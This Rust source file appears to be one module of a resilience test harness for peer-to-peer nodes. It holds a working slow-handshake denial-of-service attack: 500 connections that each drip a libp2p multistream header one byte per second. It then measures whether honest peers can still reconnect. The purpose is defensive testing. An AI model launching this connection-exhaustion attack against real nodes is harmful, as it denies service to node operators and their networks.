//! P3: five hundred connections whose security handshake comes byte by byte.

use super::{
    Attack, Finding, Limits, Seat,
    scene::{Scene, Target, until},
};
use crate::Result;
use futures::FutureExt;
use serde_json::json;
use std::{
    net::{IpAddr, SocketAddr},
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};
use tokio::{
    io::AsyncWriteExt,
    net::TcpSocket,
    task::JoinSet,
    time::{Instant, interval, sleep, sleep_until},
};

/// Connections at the same time.
const CONNECTIONS: usize = 500;
/// Share of them that must be held for the attack to be the one that is meant.
const HELD: usize = 400;
/// Time between two bytes.
const DRIP: Duration = Duration::from_secs(1);
/// What comes byte by byte: what a libp2p handshake begins with, and then no end of it.
const BEGIN: &[u8] = b"\x13/multistream/1.0.0\n";
/// How long an honest node may take to come back.
const RECONNECT: Duration = Duration::from_secs(2);
/// How long is waited for it.
const PATIENCE: Duration = Duration::from_secs(30);

pub(super) const ATTACK: Attack = Attack {
    id: "P3",
    name: "500 handshakes come byte by byte",
    seat: Seat::Listed,
    limits: Limits { interval: 1.2, cpu: Some(0.1), memory: 32.0 },
    least: Duration::from_secs(8),
    stops: None,
    run: |scene, length| attack(scene, length).boxed(),
};

async fn attack(scene: Scene, length: Duration) -> Result<Vec<Finding>> {
    let end = Instant::now() + length;
    let held = Arc::new(AtomicUsize::new(0));
    let mut slow = JoinSet::new();
    for source in scene.sources.iter().cycle().take(CONNECTIONS) {
        slow.spawn(hold(*source, scene.targets[0].p2p, Arc::clone(&held)));
    }
    sleep(length / 4).await;
    let at_first = held.load(Ordering::Relaxed);
    let took = reconnect(&scene.targets[1], &scene.targets[0]).await?;
    let at_last = held.load(Ordering::Relaxed);
    sleep_until(end).await;
    Ok(vec![
        Finding::new(
            "the handshakes were held open",
            at_first.min(at_last) >= HELD,
            format!("{at_first} before the honest node came back, {at_last} afterwards"),
        ),
        Finding::new(
            format!("an honest node is back within {} s", RECONNECT.as_secs()),
            took.is_some_and(|took| took < RECONNECT),
            took.map_or_else(|| "it did not come back".to_owned(), |took| format!("{took:.2?}")),
        ),
    ])
}

/// Holds one connection open after the other.
async fn hold(source: IpAddr, target: SocketAddr, held: Arc<AtomicUsize>) {
    loop {
        if drip(source, target, &held).await.is_err() {
            // Not let in at once; patient, as a slow one is.
            sleep(DRIP).await;
        }
    }
}

async fn drip(source: IpAddr, target: SocketAddr, held: &AtomicUsize) -> std::io::Result<()> {
    let socket = if source.is_ipv4() { TcpSocket::new_v4()? } else { TcpSocket::new_v6()? };
    socket.bind((source, 0).into())?;
    let mut stream = socket.connect(target).await?;
    held.fetch_add(1, Ordering::Relaxed);
    let mut ticks = interval(DRIP);
    let mut dripped = Ok(());
    for byte in BEGIN.iter().cycle() {
        ticks.tick().await;
        dripped = stream.write_all(&[*byte]).await;
        if dripped.is_err() {
            break;
        }
    }
    held.fetch_sub(1, Ordering::Relaxed);
    dripped
}

/// Cuts the connection of two honest nodes and measures how long it is away.
async fn reconnect(from: &Target, to: &Target) -> Result<Option<Duration>> {
    let before = from.connection(to.peer.peer_id).await?;
    let info = to.client().call("admin_nodeInfo", json!([])).await?;
    from.client().call("admin_removePeer", json!([info["enode"]])).await?;
    let again = || async {
        let now = from.connection(to.peer.peer_id).await?;
        Ok(now.is_some() && now != before)
    };
    until(PATIENCE, again).await
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokio::{io::AsyncReadExt, net::TcpListener};

    #[tokio::test]
    async fn a_connection_that_is_cut_is_not_counted_any_more() {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let target = listener.local_addr().expect("an address");
        let held = Arc::new(AtomicUsize::new(0));
        let source = "127.0.0.9".parse().expect("an address");
        let mut tasks = JoinSet::new();
        tasks.spawn(hold(source, target, Arc::clone(&held)));
        let (mut stream, from) = listener.accept().await.expect("a connection");
        assert_eq!(from.ip(), source);
        let mut first = [0];
        stream.read_exact(&mut first).await.expect("a byte");
        assert_eq!((first[0], held.load(Ordering::Relaxed)), (BEGIN[0], 1));
        drop(stream);
        // It comes again.
        listener.accept().await.expect("a connection");
        assert!(held.load(Ordering::Relaxed) <= 1);
    }
}
